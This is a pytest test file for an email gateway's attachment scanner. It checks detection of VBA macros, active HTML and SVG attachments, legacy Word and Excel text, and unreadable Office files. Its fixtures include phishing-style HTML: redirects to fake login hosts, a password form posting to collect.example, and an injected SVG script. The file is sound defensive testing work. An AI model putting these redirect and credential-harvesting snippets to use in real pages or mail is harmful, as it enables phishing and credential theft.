"""Active and legacy content: VBA macros (oletools, MacroRaptor) in .docm/.doc, also under a
macro-free name; HTML attachments that redirect, post forms elsewhere or run script; Word
and Excel 97-2003 text; Office files that cannot be read are never a silent pass."""
from __future__ import annotations

import cfb
import documents as docs
import pytest
import reading as rd

from gateway.content.extract import extract
from gateway.content.limits import Limits
from scanners.attachments import AttachmentScanner

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
NAME, DOB, MOBILE, EMAIL, NHS, TREATMENT = rd.PATIENTS[3]


def attachment_findings(name: str, ctype: str, data: bytes) -> dict[str, list]:
    out: dict[str, list] = {}
    for att in extract(name, ctype, data, Limits()):
        for f in AttachmentScanner()._check(att):
            out.setdefault(f.rule, []).append(f)
    return out


@pytest.mark.parametrize("name,data,severity,says", [
    ("order.docm", cfb.docm(), "high", "run on opening (Document_Open)"),
    ("rota.docm", cfb.docm(cfb.PLAIN_MACRO), "medium", "VBA macros"),
    ("referral.docx", cfb.docm(cfb.PLAIN_MACRO), "high", "named .docx"),
    ("old.doc", cfb.word97("Order form", {"ThisDocument": cfb.AUTO_SHELL}), "high", "MacroRaptor"),
])
def test_macros_are_found_and_rated(name, data, severity, says):
    (found,) = attachment_findings(name, DOCX, data)["attachment_macro"]
    assert str(found.severity) == severity and says in found.evidence, found


def test_a_macro_project_that_cannot_be_analysed_is_not_a_pass():
    import io
    import zipfile

    buf = io.BytesIO(cfb.docm())
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            dst.writestr(item, b"\xd0\xcf\x11\xe0 not a project" if item.filename.endswith(
                "vbaProject.bin") else data)
    found = attachment_findings("form.docm", DOCX, out.getvalue())
    assert "attachment_macro" in found


def test_macros_through_the_cli(tmp_path):
    results = rd.scan(tmp_path, docs.mail("docm", attachments=[("order.docm", DOCX, cfb.docm())]),
                      docs.mail("rota", attachments=[("rota.docm", DOCX,
                                                      cfb.docm(cfb.PLAIN_MACRO))]))
    assert [r["action"] for r in results] == ["hold", "tag"]


HTML = {
    "meta refresh": ('<html><head><meta http-equiv="refresh" content="0; url=https://login.'
                     'portal-check.example/signin"></head><body>Loading</body></html>',
                     "high", "redirects to login.portal-check.example"),
    "script redirect": ('<html><body><script>window.location.href = "https://secure-docs.'
                        'example/view";</script></body></html>', "high",
                        "redirects to secure-docs.example"),
    "credential form": ('<html><body><form action="https://collect.example/p" method="post">'
                        '<input name="u"><input type="password" name="p"></form></body></html>',
                        "high", "form posts to collect.example; asks for a password"),
    "script only": ('<html><body><p>Opening hours</p><script>var x = 1;</script></body></html>',
                    "medium", "runs script"),
}


@pytest.mark.parametrize("case", list(HTML))
def test_active_html_attachments(case):
    html, severity, says = HTML[case]
    (found,) = attachment_findings("doc.html", "text/html", html.encode())["html_active_content"]
    assert str(found.severity) == severity and found.evidence == says


def test_plain_html_and_svg_are_not_active(tmp_path):
    page = "<html><body><h1>Clinic bulletin</h1><p>New hours from May.</p></body></html>"
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="100" height="40"><text x="5" y="20">'
           'Glow Clinic</text></svg>')
    assert "html_active_content" not in attachment_findings("b.html", "text/html", page.encode())
    assert attachment_findings("logo.svg", "image/svg+xml", svg.encode()) == {}
    evil = svg.replace("<text", '<script>location.assign("https://x.example/")</script><text')
    assert attachment_findings("logo.svg", "image/svg+xml", evil.encode())["html_active_content"]
    (result,) = rd.scan(tmp_path, docs.mail("html", attachments=[
        ("voicemail.htm", "text/html", HTML["meta refresh"][0].encode())]))
    assert result["action"] == "hold"


def test_word_and_excel_97_are_read(tmp_path):
    doc = cfb.word97(f"Referral\nPatient: {NAME}\nDOB: {DOB}\nNHS number: {NHS}\n{TREATMENT}")
    (att,) = extract("referral.doc", "application/msword", doc, Limits())
    assert att.real_type == "application/msword" and not att.error
    assert f"Patient: {NAME}" in att.pages[0]
    book = cfb.excel97({"Income": [["Month", "Total"], ["Jan", "1200"]],
                        "Clients": rd.export_rows()}, hidden={"Clients": 2})
    (att,) = extract("q1.xls", "application/vnd.ms-excel", book, Limits())
    assert [label for label, _ in att.tables] == ["sheet=Income", "sheet=Clients (veryHidden)"]
    results = rd.scan(tmp_path, docs.mail("doc", attachments=[("referral.doc", "application/msword",
                                                              doc)]),
                      docs.mail("xls", attachments=[("q1.xls", "application/vnd.ms-excel", book)]))
    assert [r["action"] for r in results] == ["hold", "hold"]
    assert "patient_list" in rd.rules(results[1])


def test_office_files_that_will_not_open_are_never_a_silent_pass():
    truncated = docs.docx(["Aftercare"])[:300]
    assert attachment_findings("a.docx", DOCX, truncated)
    ppt = cfb.build({"PowerPoint Document": b"\0" * 64, "Current User": b"\0" * 16})
    found = attachment_findings("talk.ppt", "application/vnd.ms-powerpoint", ppt)
    assert found["attachment_unreadable"][0].evidence.startswith("legacy PowerPoint")
    garbage = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600
    assert attachment_findings("x.doc", "application/msword", garbage)
